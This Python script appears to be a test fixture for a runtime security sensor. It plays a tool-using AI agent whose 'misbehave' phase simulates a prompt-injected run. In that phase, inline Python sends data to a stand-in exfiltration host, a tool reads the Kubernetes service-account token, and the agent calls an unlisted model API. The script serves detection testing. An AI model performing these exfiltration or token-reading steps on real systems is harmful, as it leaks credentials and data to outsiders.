#!/usr/bin/env python3
"""A stand-in AI agent for the sensor's end-to-end tests (python3 stdlib only).

Why: the sensor must recognise an agent, its tools and its misbehaviour from runtime evidence
alone. This script behaves like a small tool-using agent: it resolves catalogued provider names
(through the test DNS server at $DNS), sends "prompts" to a model API and a vector store, and runs
the tools the "model" asks for as child processes, like LangChain's ShellTool or a code
interpreter does.

  $PHASE=learn       normal work: Bedrock and Pinecone calls, tools `ls /data` and
                     `sh -c 'echo tool; exit 3'`
  $PHASE=misbehave   a prompt-injected run: a tool runs inline Python that connects to $EXFIL:8443,
                     a tool reads the service-account token, the agent calls api.openai.com and
                     sends Bedrock a 512 KiB prompt

Environment: DNS (resolver IP), BEDROCK, PINECONE, OPENAI (names), EXFIL (an IP).
Prints one line per call/tool; exits non-zero on any failure.
"""
import os
import random
import socket
import struct
import subprocess
import sys
import time


def resolve(name):
    """One A query to $DNS over UDP; the first A record's address."""
    qid = random.randint(0, 0xFFFF)
    query = struct.pack(">HHHHHH", qid, 0x0100, 1, 0, 0, 0)
    query += b"".join(bytes([len(p)]) + p.encode() for p in name.split("."))
    query += b"\0" + struct.pack(">HH", 1, 1)
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.settimeout(3)
    sock.sendto(query, (os.environ["DNS"], 53))
    data, _ = sock.recvfrom(4096)
    sock.close()
    answers = struct.unpack(">H", data[6:8])[0]
    i = 12
    while data[i] != 0:
        i += data[i] + 1
    i += 5
    for _ in range(answers):
        if data[i] & 0xC0 == 0xC0:
            i += 2
        else:
            while data[i] != 0:
                i += data[i] + 1
            i += 1
        rtype, _cls, _ttl, rdlen = struct.unpack(">HHIH", data[i : i + 10])
        i += 10
        if rtype == 1:
            return socket.inet_ntoa(data[i : i + 4])
        i += rdlen
    sys.exit("no A record for %s" % name)


def call(name, nbytes):
    """A request of `nbytes` to `name`:443; the peer answers `received N`."""
    ip = resolve(name)
    sock = socket.create_connection((ip, 443), timeout=5)
    sock.sendall(b"p" * nbytes)
    sock.shutdown(socket.SHUT_WR)
    reply = sock.recv(100).decode().strip()
    sock.close()
    print("call %s %s" % (name, reply), flush=True)
    if reply != "received %d" % nbytes:
        sys.exit("unexpected reply from %s: %r" % (name, reply))


def tool(argv, expect=0):
    code = subprocess.run(argv).returncode
    print("tool %s exit %d" % (argv[0], code), flush=True)
    if code != expect:
        sys.exit("tool %r exited %d, expected %d" % (argv, code, expect))


def main():
    env = os.environ
    phase = env["PHASE"]
    # Every run starts with the model: this is what makes the process an agent.
    call(env["BEDROCK"], 2048)
    if phase == "learn":
        call(env["PINECONE"], 512)
        tool(["/bin/ls", "/data"])
        tool(["/bin/sh", "-c", "echo tool; exit 3"], expect=3)
        # The sensor reads the container's filesystem through /proc/<pid>/root meanwhile.
        time.sleep(1)
    elif phase == "misbehave":
        code = (
            "import socket; s = socket.create_connection(('%s', 8443), timeout=5); "
            "s.sendall(b'stolen'); s.close()" % env["EXFIL"]
        )
        tool([sys.executable, "-c", code])
        tool(["/bin/cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"])
        call(env["OPENAI"], 1024)
        call(env["BEDROCK"], 512 * 1024)
        # Alive across two flow polls (every 2 s) so the oversized window is read while the
        # container's counters still exist.
        time.sleep(5)
    else:
        sys.exit("unknown PHASE %r" % phase)


if __name__ == "__main__":
    main()
